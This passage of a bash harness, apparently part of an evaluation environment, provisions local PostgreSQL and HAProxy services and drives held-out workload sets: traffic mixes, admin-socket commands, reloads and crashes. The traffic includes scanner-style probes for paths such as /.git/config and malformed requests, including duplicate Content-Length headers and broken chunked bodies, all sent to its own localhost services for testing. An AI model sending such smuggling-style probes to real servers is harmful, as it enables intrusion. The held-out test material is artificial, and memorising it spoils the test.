    3) for i in 1 2 3 4 5 6 7 8 9 10; do printf '%s\ttrickled note %s-%s\n' $((i * 7 % 500)) "$r" "$i"; sleep 0.05; done |
         "${odd[@]}" -c 'COPY "CustomerNotes" ("CustomerId", "Note") FROM STDIN' ;;
    4) pgbench -h 127.0.0.1 -p "$relay" -U postgres -n -M prepared -c 1 -t 300 -f "$PG_DIR/heldout17-tiny.sql" postgres ;;
    5) psql "host=127.0.0.1 port=$relay user=postgres dbname=postgres application_name=ledger-audit connect_timeout=3 options='-c statement_timeout=5s -c search_path=public,pg_catalog' client_encoding=LATIN1 target_session_attrs=read-write" \
         -q -X -o /dev/null -c "SELECT aid FROM pgbench_accounts TABLESAMPLE SYSTEM (1) REPEATABLE (17) LIMIT 5" \
         -c "SELECT aid, abalance FROM pgbench_accounts ORDER BY aid FETCH FIRST 3 ROWS WITH TIES" \
         -c "SELECT bid, count(*) FROM pgbench_accounts WHERE aid < 2000 GROUP BY GROUPING SETS ((bid), ())" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout17_early() {
  local lsn seg
  lsn=$(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -A -t -c 'SELECT pg_current_wal_flush_lsn()' postgres)
  seg=$(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -A -t -c "SELECT pg_walfile_name('$lsn')" postgres)
  admin postgresql postgres "$PG_BIN/pg_waldump" --stats=record -p "$PG_DATA/pg_wal" -e "$lsn" "$seg"
}
postgresql_heldout17_change() {
  postgresql_stop
  install -d -o postgres -g postgres -m 700 "$PG_DATA/conf.d"
  printf '%s\n' "shared_preload_libraries = 'pg_stat_statements'" 'compute_query_id = on' \
    'pg_stat_statements.max = 2000' "pg_stat_statements.track = 'all'" "track_functions = 'all'" \
    >"$PG_DATA/conf.d/monitoring.conf"
  chown postgres:postgres "$PG_DATA/conf.d/monitoring.conf"
  echo "include_dir = 'conf.d'" >>"$PG_DATA/postgresql.conf"
  postgresql_start
  "${PSQL[@]}" -v ON_ERROR_STOP=1 -c 'CREATE EXTENSION pg_stat_statements' ||
    die "postgresql heldout17: pg_stat_statements failed"
  PG_HELDOUT17_STATEMENTS=1
}
postgresql_heldout17_late() {
  admin postgresql postgres "$PG_BIN/psql" -h "$PG_DIR/run" -p "$PG_PORT" -U postgres -X -q -o /dev/null \
    -c "\\copy (SELECT queryid, calls, total_exec_time, rows, query FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 50) TO '$PG_DIR/backup/statements-$(date +%Y%m%d-%H%M%S).csv' CSV HEADER" \
    -c 'SELECT pg_stat_statements_reset()' postgres
}
# --- haproxy ------------------------------------------------------------------------------

HAPROXY_DIR=$WORK/haproxy
HAPROXY_RUN=$HAPROXY_DIR/run

# A reverse proxy in front of three backends (python3 http.server on 127.0.0.1, outside the
# cgroup: the application tier): two for the site, one for /api/, with health checks; a
# stats page and an admin socket. haproxy starts as root in the master-worker mode Debian's
# unit uses, chroots to an empty directory and runs its worker as haproxy.
haproxy_provision() {
  local b
  for b in 0 1 2; do [ -z "${BACKEND_PIDS[$b]}" ] || haproxy_backend_stop "$b"; done
  rm -rf "$HAPROXY_DIR"
  mkdir -p "$HAPROXY_DIR"/{conf,empty} "$HAPROXY_RUN"
  for b in 0 1 2; do
    mkdir -p "$HAPROXY_DIR/www$b/api" "$HAPROXY_DIR/www$b/static"
    echo ok >"$HAPROXY_DIR/www$b/health.html"
    echo "<html>home $b</html>" >"$HAPROXY_DIR/www$b/index.html"
    for i in $(seq 1 60); do echo "<html>page $i from $b</html>" >"$HAPROXY_DIR/www$b/page$i.html"; done
    for i in $(seq 1 30); do head -c 1024 /dev/urandom >"$HAPROXY_DIR/www$b/static/$i.bin"; done
    echo '{"status":"ok"}' >"$HAPROXY_DIR/www$b/api/status"
    echo '{"items":[]}' >"$HAPROXY_DIR/www$b/api/items"
    echo '{"orders":[]}' >"$HAPROXY_DIR/www$b/api/orders"
  done
  chown haproxy:haproxy "$HAPROXY_RUN"
  cat >"$HAPROXY_DIR/conf/haproxy.cfg" <<CONF
global
  user haproxy
  group haproxy
  chroot $HAPROXY_DIR/empty
  pidfile $HAPROXY_RUN/haproxy.pid
  stats socket $HAPROXY_RUN/admin.sock mode 660 level admin
  log stdout format raw local0
  maxconn 512

defaults
  mode http
  log global
  option httplog
  option dontlognull
  timeout connect 2s
  timeout client 10s
  timeout server 10s

frontend web
  bind 127.0.0.1:$HAPROXY_PORT
  acl is_api path_beg /api/
  use_backend api if is_api
  default_backend site

backend site
  balance roundrobin
  option httpchk GET /health.html
  server s1 127.0.0.1:${BACKEND_PORTS[0]} check inter 2s
  server s2 127.0.0.1:${BACKEND_PORTS[1]} check inter 2s

backend api
  option httpchk GET /health.html
  server a1 127.0.0.1:${BACKEND_PORTS[2]} check inter 2s

listen stats
  bind 127.0.0.1:$HAPROXY_STATS_PORT
  stats enable
  stats uri /stats
CONF
  for b in 0 1 2; do haproxy_backend_start "$b"; done
}

BACKEND_PIDS=("" "" "")
haproxy_backend_start() {
  (cd "$HAPROXY_DIR/www$1" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "${BACKEND_PORTS[$1]}") \
    >/dev/null 2>&1 &
  BACKEND_PIDS[$1]=$!
  PIDS+=($!)
  until_ok curl -sf "http://127.0.0.1:${BACKEND_PORTS[$1]}/health.html"
}
haproxy_backend_stop() { stop_pid "${BACKEND_PIDS[$1]}" TERM; BACKEND_PIDS[$1]=""; }

HAPROXY_PID=
haproxy_start() {
  launch haproxy root /usr/sbin/haproxy -W -db -f "$HAPROXY_DIR/conf/haproxy.cfg"
  HAPROXY_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$HAPROXY_PORT/health.html"
}
haproxy_stop() { stop_pid "$HAPROXY_PID" USR1; }

# haproxy_get CONCURRENCY PATH...: like nginx_get, through the frontend.
haproxy_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$HAPROXY_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}
# Mix A: home, pages 1-20, static 1-10, the API status, scanners; 3 clients.
haproxy_mix_a() {
  local paths=(/ /index.html /api/status /wp-login.php)
  for i in $(seq 1 20); do paths+=("/page$i.html"); done
  for i in $(seq 1 10); do paths+=("/static/$i.bin"); done
  haproxy_get 3 "${paths[@]}" "${paths[@]}"
}
# Mix B: pages 10-40, static 1-20, other API calls, HEAD requests; 1 client, then 8.
haproxy_mix_b() {
  local paths=(/ /api/status /api/items /admin.php /.git/config)
  for i in $(seq 10 40); do paths+=("/page$i.html"); done
  for i in $(seq 1 20); do paths+=("/static/$i.bin"); done
  haproxy_get 1 "${paths[@]}"
  haproxy_get 8 "${paths[@]}" "${paths[@]}"
  curl -s -I "http://127.0.0.1:$HAPROXY_PORT/page7.html" >/dev/null
}
# Scheduled job: the monitoring scrape of the stats page and the admin socket.
haproxy_maintenance() {
  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;csv" >/dev/null
  echo "show info" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
}

# Held out. Clients from 127.0.0.2-20, pages 20-60 and static 1-30 (most never requested),
# other API paths, 12 at a time; a backend taken out of rotation through the admin socket and
# put back, and a backend that dies and comes back (health checks fail, then pass); a reload
# (USR2 to the master, as `systemctl reload haproxy` does); the monitoring job with other
# arguments (stats in HTML, show stat / show servers state).
haproxy_heldout_deploy() { :; }
haproxy_heldout_mix() {
  local paths=(/ /index.html /api/status /api/items /api/orders /robots.txt /xmlrpc.php)
  for i in $(seq 20 60); do paths+=("/page$i.html"); done
  for i in $(seq 1 30); do paths+=("/static/$i.bin"); done
  local n=0 p
  for p in "${paths[@]}" "${paths[@]}"; do
    echo "$((2 + n % 19)) http://127.0.0.1:$HAPROXY_PORT$p"
    n=$((n + 1))
  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
}
HAPROXY_HELDOUT_ROUND=0
haproxy_heldout_job() {
  HAPROXY_HELDOUT_ROUND=$((HAPROXY_HELDOUT_ROUND + 1))
  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats" >/dev/null
  echo "show stat" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
  echo "show servers state" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
  if [ "$HAPROXY_HELDOUT_ROUND" = 1 ]; then
    echo "disable server site/s2" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
    haproxy_heldout_mix
    echo "enable server site/s2" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
  else
    haproxy_backend_stop 1
    sleep 5
    haproxy_heldout_mix
    haproxy_backend_start 1
  fi
}
haproxy_heldout_reload() { kill -USR2 "$HAPROXY_PID"; sleep 2; }

# Held out, second set (heldout2). The release, on the provisioning side: a map of
# redirects for moved pages (read by haproxy at start), a custom 503 page, gzip compression
# of HTML and CSS, and new content on the backends (pages 61-90, a catalog, v2 assets).
# Clients from 127.0.0.21-60, quiet rounds (2 at a time) and busy ones (30), with redirects,
# compressed responses, HTTP/1.0, HEAD, POSTs the backends refuse and query strings; the
# monitoring job with other arguments (stats as JSON, `show stat json`, show errors, show
# sess, show backend, show map), weights changed and a server drained and made ready again
# on the admin socket; an operator inside the cgroup checks the configuration
# (`haproxy -c`), prints the build options (`haproxy -vv`) and queries the admin socket with
# socat, then a config change (longer client timeout) is reloaded (USR2 to the master,
# systemctl reload); the restart is a hard stop (TERM) and a start.
haproxy_heldout2_deploy() {
  local b i
  for b in 0 1 2; do
    mkdir -p "$HAPROXY_DIR/www$b/catalog" "$HAPROXY_DIR/www$b/static/v2"
    for i in $(seq 61 90); do echo "<html>page $i from $b (new)</html>" >"$HAPROXY_DIR/www$b/page$i.html"; done
    for i in $(seq 1 12); do echo "<html>catalog $i</html>" >"$HAPROXY_DIR/www$b/catalog/item$i.html"; done
    echo "body { margin: 1em }" >"$HAPROXY_DIR/www$b/static/v2/site.css"
  done
  printf '/old/about /page61.html\n/old/contact /page62.html\n/shop /catalog/item1.html\n' \
    >"$HAPROXY_DIR/conf/redirects.map"
  printf 'HTTP/1.0 503 Service Unavailable\r\nContent-Type: text/html\r\n\r\n<html>maintenance</html>\n' \
    >"$HAPROXY_DIR/conf/503.http"
  sed -i "s|^  timeout server 10s$|  timeout server 10s\n  errorfile 503 $HAPROXY_DIR/conf/503.http\n  compression algo gzip\n  compression type text/html text/css|" \
    "$HAPROXY_DIR/conf/haproxy.cfg"
  sed -i "s|^  default_backend site$|  http-request redirect location %[path,map_str($HAPROXY_DIR/conf/redirects.map)] code 301 if { path,map_str($HAPROXY_DIR/conf/redirects.map) -m found }\n  default_backend site|" \
    "$HAPROXY_DIR/conf/haproxy.cfg"
}
haproxy_heldout2_mix() {
  local paths=(/ /old/about /old/contact /shop /static/v2/site.css /api/orders "/api/items?page=$HELDOUT2_ROUND"
               /favicon.ico "/?ref=partner$HELDOUT2_ROUND")
  local i
  for i in $(seq 45 90); do [ $(((i + HELDOUT2_ROUND) % 3)) = 0 ] || paths+=("/page$i.html"); done
  for i in $(seq 1 12); do paths+=("/catalog/item$i.html"); done
  for i in $(seq 15 30); do paths+=("/static/$i.bin"); done
  heldout2_get "$HAPROXY_PORT" 30 21 40 3 1 --compressed "${paths[@]}"
  local u=http://127.0.0.1:$HAPROXY_PORT
  curl -s --interface 127.0.0.52 -0 "$u/page70.html" >/dev/null
  curl -s --interface 127.0.0.53 -I "$u/catalog/item3.html" >/dev/null
  curl -s --interface 127.0.0.54 -X POST -d 'sku=7&qty=1' "$u/api/orders" >/dev/null
}
haproxy_sock() { echo "$1" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null; }
# haproxy_socks CMD...: each CMD on the admin socket in turn.
haproxy_socks() { local c; for c in "$@"; do haproxy_sock "$c"; done; }
HAPROXY_HELDOUT2_JOBS=0
haproxy_heldout2_job() {
  HAPROXY_HELDOUT2_JOBS=$((HAPROXY_HELDOUT2_JOBS + 1))
  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;json" >/dev/null
  local c
  for c in "show stat json" "show errors" "show sess" "show backend" "show map $HAPROXY_DIR/conf/redirects.map"; do
    haproxy_sock "$c"
  done
  if [ $((HAPROXY_HELDOUT2_JOBS % 2)) = 1 ]; then
    haproxy_sock "set weight site/s1 200"
    haproxy_sock "set server site/s2 state drain"
    haproxy_heldout2_mix
    haproxy_sock "set server site/s2 state ready"
  else
    haproxy_sock "set weight site/s1 100"
    haproxy_sock "clear counters"
  fi
}
haproxy_heldout2_admin() {
  admin haproxy root /usr/sbin/haproxy -c -f "$HAPROXY_DIR/conf/haproxy.cfg"
  admin haproxy root /usr/sbin/haproxy -vv
  # socat reads the command from a file and prints the answer (launch gives no stdin).
  echo "show info" >"$WORK/haproxy-show-info"
  admin haproxy root /usr/bin/socat -t 2 "OPEN:$WORK/haproxy-show-info,rdonly!!STDOUT" \
    "UNIX-CONNECT:$HAPROXY_RUN/admin.sock"
  sed -i 's/^  timeout client 10s$/  timeout client 30s/' "$HAPROXY_DIR/conf/haproxy.cfg"
  admin haproxy root /usr/sbin/haproxy -c -f "$HAPROXY_DIR/conf/haproxy.cfg"
  kill -USR2 "$HAPROXY_PID"
  sleep 2
}
haproxy_heldout2_restart() {
  stop_pid "$HAPROXY_PID" TERM
  haproxy_start
}

# Held out, third set (heldout3). Deployed before the start: a guide on the backends
# (docs/guide-1..8) and a 700 kB download. Clients from 127.0.1.10-59 for the guide, every
# fourth page, every third static file, API calls with query strings and paths the backends
# do not have (404); each round one more error path in turn: a malformed request (400), a
# request with a 20 kB header (larger than haproxy's buffer), a client that sends half a
# request and hangs up, a 1 MB POST the backend refuses (501), a download aborted after a
# few kilobytes, and a full download. The crash: the API backend (its only server) killed
# with SIGKILL, so /api/ answers 503 until it is back, 6 s later. The reload: USR2 to the
# master after a config change (a backup server for the site, X-Forwarded-For, a response
# header, an http-request timeout). The maintenance: the admin socket's `show info typed`,
# `show activity`, `show pools`, `show servers conn`, and the stats page of the servers
# that are up.
haproxy_heldout3_deploy() {
  local b i
  for b in 0 1 2; do
    mkdir -p "$HAPROXY_DIR/www$b/docs"
    for i in $(seq 1 8); do echo "<html>guide $i from $b</html>" >"$HAPROXY_DIR/www$b/docs/guide-$i.html"; done
    head -c 700000 /dev/urandom >"$HAPROXY_DIR/www$b/static/bundle.tar.gz"
  done
}
haproxy_heldout3_mix() {
  local paths=(/ /docs/guide-1.html /docs/guide-2.html /docs/guide-5.html /docs/guide-8.html /docs/guide-9.html
               "/api/items?sort=price&limit=$((HELDOUT3_ROUND % 20))" /api/status /api/users /nope.html /static/999.bin)
  local i r=$HELDOUT3_ROUND u=http://127.0.0.1:$HAPROXY_PORT a=127.0.1.$((10 + HELDOUT3_ROUND % 50))
  for i in $(seq $((2 + r % 4)) 4 58); do paths+=("/page$i.html"); done
  for i in $(seq 2 3 29); do paths+=("/static/$i.bin"); done
  heldout3_get "$HAPROXY_PORT" "${paths[@]}"
  case $((r % 6)) in
    0) heldout3_raw "$HAPROXY_PORT" $((10 + r % 50)) 'GET /docs/ HTTP/1.1 junk\r\n\r\n' ;;
    1) curl -s --interface "$a" -H "X-Trace: $(head -c 20000 /dev/zero | tr '\0' a)" "$u/" >/dev/null ;;
    2) heldout3_raw "$HAPROXY_PORT" $((10 + r % 50)) 'GET /page9.html HTTP/1.1\r\nHost: loc' 0.3 ;;
    3) head -c 1000000 /dev/zero | curl -s --interface "$a" --max-time 5 --data-binary @- "$u/api/orders" >/dev/null || true ;;
    4) curl -s --interface "$a" --limit-rate 20k --max-time 0.5 "$u/static/bundle.tar.gz" >/dev/null || true ;;
    5) curl -s --interface "$a" "$u/static/bundle.tar.gz" >/dev/null ;;
  esac
}
haproxy_heldout3_crash() {
  kill -KILL "${BACKEND_PIDS[2]}"
  wait "${BACKEND_PIDS[2]}" 2>/dev/null || true
  forget "${BACKEND_PIDS[2]}"
  BACKEND_PIDS[2]=""
  local t=$((SECONDS + 6))
  while [ "$SECONDS" -lt "$t" ]; do
    curl -s --interface 127.0.1.60 "http://127.0.0.1:$HAPROXY_PORT/api/status" >/dev/null
    sleep 0.5
  done
  haproxy_backend_start 2
}
haproxy_heldout3_reload() {
  sed -i "s|^  server s2 127.0.0.1:${BACKEND_PORTS[1]} check inter 2s$|&\n  server s3 127.0.0.1:${BACKEND_PORTS[2]} check inter 2s backup\n  option forwardfor\n  http-response set-header X-Frame-Options DENY|" \
    "$HAPROXY_DIR/conf/haproxy.cfg"
  sed -i 's|^  timeout server 10s$|&\n  timeout http-request 5s|' "$HAPROXY_DIR/conf/haproxy.cfg"
  kill -USR2 "$HAPROXY_PID"
  until_ok heldout3_haproxy_reloaded
}
heldout3_haproxy_reloaded() {
  curl -sI "http://127.0.0.1:$HAPROXY_PORT/" | grep -qi '^x-frame-options: DENY'
}
haproxy_heldout3_maint() {
  local c
  for c in "show info typed" "show activity" "show pools" "show servers conn"; do haproxy_sock "$c"; done
  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;up" >/dev/null
}

# Held out, fourth set (heldout4). Deployed before the start: a rate limit in the frontend
# (a stick table of source addresses, http_req_rate over 10 s, 429 above 150), cookie
# persistence for the site (`cookie SRV insert indirect nocache`, a cookie per server),
# and a fourth backend's content (www3). Clients from 127.0.2.100-199, 1 to 6 requests per
# connection, for every fifth page (another offset each round), static files, API calls;
# each round one more request in turn: a client that keeps its cookie jar over five
# requests (sticky), a 50 kB POST with `Expect: 100-continue` the backend refuses (501), a
# cookie naming a server that does not exist, a DELETE the backend refuses, a 6 kB query
# string; at the peak, a partner's crawler (127.0.2.250) that makes 200 requests on one
# connection and is rate-limited (429). The change: a scale-out: a fourth backend started
# (127.0.0.1:18094, outside the cgroup) and added at run time (`add server site/s4`,
# `enable server`). The maintenance on the admin socket: `show table web`, `show tasks`,
# `show cli sockets`, `show servers conn site`, `set maxconn frontend web 1000`. The end: the
# scale-in (`disable server`, `shutdown sessions server`, `del server`, the backend stopped).
HAPROXY_HELDOUT4_PORT=18094
haproxy_heldout4_deploy() {
  rm -rf "$HAPROXY_DIR/www3"
  cp -r "$HAPROXY_DIR/www0" "$HAPROXY_DIR/www3"
  echo "<html>home 3</html>" >"$HAPROXY_DIR/www3/index.html"
  sed -i "s|^  bind 127.0.0.1:$HAPROXY_PORT$|&\n  stick-table type ip size 10k expire 30s store http_req_rate(10s)\n  http-request track-sc0 src\n  http-request deny deny_status 429 if { sc_http_req_rate(0) gt 150 }|" \
    "$HAPROXY_DIR/conf/haproxy.cfg"
  sed -i 's|^  balance roundrobin$|&\n  cookie SRV insert indirect nocache|' "$HAPROXY_DIR/conf/haproxy.cfg"
  sed -i 's|^\(  server \(s[12]\) .* check inter 2s\)$|\1 cookie \2|' "$HAPROXY_DIR/conf/haproxy.cfg"
  if ! grep -q 'cookie s2$' "$HAPROXY_DIR/conf/haproxy.cfg" || ! grep -q track-sc0 "$HAPROXY_DIR/conf/haproxy.cfg"; then
    die "haproxy heldout4: config not changed"
  fi
}
haproxy_heldout4_mix() {
  local r=$HELDOUT4_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a jar
  local paths=(/ /api/status /api/items "/api/orders?since=$((r * 60))" /docs/ /missing-$((r % 3)).html)
  for i in $(seq $((1 + r % 5)) 5 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 3)) 6 30); do paths+=("/static/$i.bin"); done
  heldout4_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout4_addr 2)
  case $((r % 5)) in
    0) jar=$WORK/haproxy-cookies
       rm -f "$jar"
       for i in 1 2 3 4 5; do curl -s --interface "$a" -b "$jar" -c "$jar" "$u/page$((i * 3)).html" >/dev/null; done ;;
    1) head -c 50000 /dev/zero | curl -s --interface "$a" -H 'Expect: 100-continue' --data-binary @- "$u/api/orders" >/dev/null ;;
    2) curl -s --interface "$a" -b SRV=s9 "$u/page4.html" >/dev/null ;;
    3) curl -s --interface "$a" -X DELETE "$u/api/items" >/dev/null ;;
    4) curl -s --interface "$a" "$u/api/items?ids=$(seq -s, 1 1200)" >/dev/null ;;
  esac
  if [ "$HELDOUT4_CONC" -ge 32 ]; then
    # shellcheck disable=SC2046
    curl -s --interface 127.0.2.250 $(for i in $(seq 1 200); do echo "$u/page$((1 + i % 60)).html"; done) >/dev/null
  fi
}
HAPROXY_HELDOUT4_PID=
haproxy_heldout4_change() {
  (cd "$HAPROXY_DIR/www3" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "$HAPROXY_HELDOUT4_PORT") >/dev/null 2>&1 &
  HAPROXY_HELDOUT4_PID=$!
  PIDS+=($!)
  until_ok curl -sf "http://127.0.0.1:$HAPROXY_HELDOUT4_PORT/health.html"
  haproxy_sock_check "add server site/s4 127.0.0.1:$HAPROXY_HELDOUT4_PORT" "New server registered"
  haproxy_sock "enable server site/s4"
}
# haproxy_sock_check COMMAND EXPECTED: COMMAND on the admin socket; its answer must hold
# EXPECTED.
haproxy_sock_check() {
  local out
  out=$(echo "$1" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock")
  case $out in *"$2"*) ;; *) die "haproxy: '$1' answered: $out" ;; esac
}
haproxy_heldout4_maint() {
  local c
  for c in "show table web" "show tasks" "show cli sockets" "show servers conn site" "set maxconn frontend web 1000"; do
    haproxy_sock "$c"
  done
}
haproxy_heldout4_end() {
  haproxy_sock "disable server site/s4"
  haproxy_sock "shutdown sessions server site/s4"
  until_ok haproxy_heldout4_deleted
  stop_pid "$HAPROXY_HELDOUT4_PID" TERM
}
# The server is deleted once it has no connection left.
haproxy_heldout4_deleted() {
  echo "del server site/s4" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" | grep -q "Server deleted"
}

# Held out, fifth set (heldout5). No deploy. Clients from 127.0.3.1-250 for every seventh
# page and every fourth static file (another offset each round), API calls with paging,
# the health page; a crawler (Googlebot's user agent, behind a CDN's X-Forwarded-For);
# each round one more request in turn: two Content-Length headers (400), a broken chunked
# body (400), a PUT the backend refuses (501), a missing static file (404), a WebSocket
# upgrade the backend does not speak, a connection that sends nothing for a second. The
# change: `balance leastconn`, an X-Request-ID (uuid) on every request, the backends'
# Server header removed from responses, `timeout http-keep-alive 2s`, `option redispatch`
# and `retries 2`, then USR2 to the master from outside. The maintenance on the admin
# socket: `show version`, `show env`, `show info json`, `show servers state site`, and s1
# put in maintenance around a round of traffic, then ready again. The late event: the
# change reverted, USR2 again.
haproxy_heldout5_deploy() { :; }
haproxy_heldout5_mix() {
  local r=$HELDOUT5_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a
  local paths=(/ /index.html /health.html /api/status /api/items "/api/orders?page=$((r % 9))&per_page=50")
  for i in $(seq $((1 + r % 7)) 7 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 4)) 4 30); do paths+=("/static/$i.bin"); done
  heldout5_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout5_addr 2)
  curl -s --interface "$a" -A 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' \
    -H 'X-Forwarded-For: 203.0.113.7' "$u/page$((r % 60 + 1)).html" >/dev/null || true
  case $((r % 6)) in
    0) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/orders HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 7\r\n\r\nhello' ;;
    1) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/orders HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nbad\r\n0\r\n\r\n' ;;
    2) curl -s --interface "$a" -X PUT --data 'qty=3' "$u/api/items" ;;
    3) curl -s --interface "$a" "$u/static/nope-$r.bin" ;;
    4) curl -s --interface "$a" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
         -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$u/ws" ;;
    5) heldout3_raw "$HAPROXY_PORT" "$a" '' 1 ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout5_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  cp "$conf" "$WORK/haproxy.cfg.orig"
  sed -i 's|^  timeout server 10s$|&\n  timeout http-keep-alive 2s\n  option redispatch\n  retries 2|' "$conf"
  sed -i 's|^  default_backend site$|  http-request set-header X-Request-ID %[uuid]\n  http-response del-header Server\n&|' "$conf"
  sed -i 's|^  balance roundrobin$|  balance leastconn|' "$conf"
  if ! grep -q 'del-header Server' "$conf" || ! grep -q leastconn "$conf"; then die "haproxy heldout5: config not changed"; fi
  kill -USR2 "$HAPROXY_PID"
  until_ok heldout5_not haproxy_heldout5_banner
}
# haproxy_heldout5_banner: responses carry the backends' Server header (the change is not live).
haproxy_heldout5_banner() { curl -sI "http://127.0.0.1:$HAPROXY_PORT/index.html" | grep -qi '^server:'; }
haproxy_heldout5_maint() {
  local c
  for c in "show version" "show env" "show info json" "show servers state site"; do haproxy_sock "$c"; done
  haproxy_sock "set server site/s1 state maint"
  haproxy_heldout5_mix
  haproxy_sock "set server site/s1 state ready"
}
haproxy_heldout5_late() {
  cp "$WORK/haproxy.cfg.orig" "$HAPROXY_DIR/conf/haproxy.cfg"
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout5_banner
}
haproxy_heldout5_probe() { heldout5_probe_http "$HAPROXY_PORT" /health.html; }

# Held out, sixth set (heldout6). No deploy. Clients from 127.0.4.1-200 for every fifth
# page and every sixth static file (another offset each round), the API with a query
# string, the stats page's CSV (a dashboard); each round one more request in turn: a
# 500 kB POST the backend refuses (501), a missing page (404), a 20 kB header (400: over
# haproxy's buffer), HEAD of the home page, a client that sends its headers and hangs up
# before the body. The change: maxconn 768, `timeout queue 5s`, `http-reuse always`, a
# Cache-Control header for /static/ (a variable set on the request), s2 at half weight,
# then USR2 to the master from outside. The maintenance on the stats socket: `show errors`,
# `show sess`, `show threads`, `clear counters`. The late event: limits set at runtime on
# the stats socket (a global session rate limit of 200/s, the frontend's maxconn 64)
# around a round of traffic, then lifted.
haproxy_heldout6_deploy() { :; }
haproxy_heldout6_mix() {
  local r=$HELDOUT6_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a
  local paths=(/ /health.html /api/status "/api/items?since=$((r * 60))" /api/orders)
  for i in $(seq $((1 + r % 5)) 5 60); do paths+=("/page$i.html"); done
  for i in $(seq $((1 + r % 6)) 6 30); do paths+=("/static/$i.bin"); done
  heldout6_get "$HAPROXY_PORT" "${paths[@]}"
  a=$(heldout6_addr 2)
  curl -s --interface "$a" "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;csv" >/dev/null || true
  case $((r % 5)) in
    0) head -c 500000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/api/orders" ;;
    1) curl -s --interface "$a" "$u/page$((100 + r)).html" ;;
    2) curl -s --interface "$a" -H "X-Trace: $(head -c 20000 /dev/zero | tr '\0' t)" "$u/index.html" ;;
    3) curl -s --interface "$a" -I "$u/" ;;
    4) heldout3_raw "$HAPROXY_PORT" "$a" 'POST /api/orders HTTP/1.1\r\nHost: x\r\nContent-Length: 4000\r\n\r\n{"sku":' 0.3 ;;
  esac >/dev/null 2>&1 || true
}
haproxy_heldout6_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg
  sed -i 's|^  maxconn 512$|  maxconn 768|' "$conf"
  sed -i 's|^  timeout server 10s$|&\n  timeout queue 5s\n  http-reuse always|' "$conf"
  sed -i 's|^  default_backend site$|  http-request set-var(txn.static) bool(true) if { path_beg /static/ }\n  http-response set-header Cache-Control "max-age=300" if { var(txn.static) -m bool }\n&|' "$conf"
  sed -i "s|^  server s2 127.0.0.1:${BACKEND_PORTS[1]} check inter 2s$|& weight 50|" "$conf"
  if ! grep -q 'maxconn 768' "$conf" || ! grep -q 'weight 50' "$conf"; then die "haproxy heldout6: config not changed"; fi
  kill -USR2 "$HAPROXY_PID"
  until_ok haproxy_heldout6_cached
}
# haproxy_heldout6_cached: static files come with the reload's Cache-Control header.
haproxy_heldout6_cached() { curl -sI "http://127.0.0.1:$HAPROXY_PORT/static/1.bin" | grep -qi '^cache-control: max-age=300'; }
haproxy_heldout6_maint() {
  local c
  for c in "show errors" "show sess" "show threads" "clear counters"; do haproxy_sock "$c"; done
}
haproxy_heldout6_late() {
  haproxy_sock "set rate-limit sessions global 200"
  haproxy_sock "set maxconn frontend web 64"
  haproxy_heldout6_mix
  haproxy_sock "set maxconn frontend web 768"
  haproxy_sock "set rate-limit sessions global 0"
}

# Held out, seventh set (heldout7). No deploy. Clients from 127.0.5.1-240 for every third
# page and every fifth static file (another offset each round), the API with paging; each
# round one more request in turn: a page the backends lack (404), an HTTP/1.0 request
# without Host, a request line with a bad method (400), a WebSocket upgrade the backends
# refuse, a client that hangs up mid-response, HEAD of the API. The maintenance, early, on
# the admin socket: `show env`, `show startup-logs`, `show cli sockets`, `show fd`. The
# change, in the quiet period: gzip compression of HTML for the site, `option forwardfor`,
# an X-Frame-Options header, `timeout http-keep-alive 2s`; the file checked by the operator
# inside the cgroup (`haproxy -c`, root), then USR2 to the master from outside. The late
# event: a third server added to the site at runtime on the admin socket (`add server
# site/s3`, the api backend's host, then `enable server`) around a round of traffic, then
# disabled and deleted (`del server`).
haproxy_heldout7_deploy() { :; }
haproxy_heldout7_mix() {
  local r=$HELDOUT7_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a
  local paths=(/ /health.html "/api/items?page=$((r % 9))&per_page=25" /api/orders /api/status)
